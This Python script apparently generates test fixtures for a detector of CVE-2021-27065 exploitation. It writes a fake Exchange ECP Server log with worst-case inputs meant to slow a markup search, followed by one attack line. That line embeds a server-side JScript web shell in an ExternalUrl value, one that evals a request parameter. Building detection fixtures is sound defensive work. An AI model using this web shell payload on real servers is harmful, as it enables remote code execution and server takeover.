"""ecp_markup.py DIR K: an ECP Server log whose EventData lines make the
markup search for CVE-2021-27065 (Set-*VirtualDirectory with a script in a
URL) as costly as it can: a Set-OabVirtualDirectory followed by K x "url<a "
with no closing tag (every '<' and every "url" a candidate; once cubic), the
same K cmdlets without a URL, then a real attack line (ExternalUrl holding a
<script> element) that must still be found."""
import os
import sys

out, k = sys.argv[1], int(sys.argv[2])
d = os.path.join(out, "Program Files", "Microsoft", "Exchange Server", "V15", "Logging", "ECP",
                 "Server")
os.makedirs(d, exist_ok=True)
req = ";S:REQID=07aa3c8f-4177-48ca-9142-13a930c385bd;S:BLD=15.1.2106.2"
with open(os.path.join(d, "ECPServer20210303-1.LOG"), "w", newline="") as f:
    f.write("\ufeff#Software: Microsoft Exchange Server\r\n#Version: 15.00.0000.000\r\n"
            "#Log-type: ECP Server Log\r\n#Date: 2021-03-03T00:00:00.000Z\r\n"
            "#Fields: TimeStamp,ServerName,EventId,EventData\r\n")
    f.write("2021-03-03T00:42:13.207Z,EXCH01,1,\"S:CMD=Get-InboxRule.Mailbox='alice@corp.example."
            "com'" + req + "\"\r\n")
    f.write("2021-03-03T01:00:00.000Z,EXCH01,1,\"S:CMD=Set-OabVirtualDirectory " + "url<a " * k +
            req + "\"\r\n")
    f.write("2021-03-03T01:30:00.000Z,EXCH01,1,\"S:CMD=" + "Set-OabVirtualDirectory." * k +
            "Identity='5f3a0b3e'" + req + "\"\r\n")
    f.write("2021-03-03T02:11:15.000Z,EXCH01,1,\"S:CMD=Set-OabVirtualDirectory.InternalUrl='https:"
            "//ex01.corp/OAB'.ExternalUrl='http://o/#<script language=\"\"JScript\"\" runat=\"\""
            "server\"\">function Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}"
            "</script>'.Identity='5f3a0b3e'" + req + "\"\r\n")
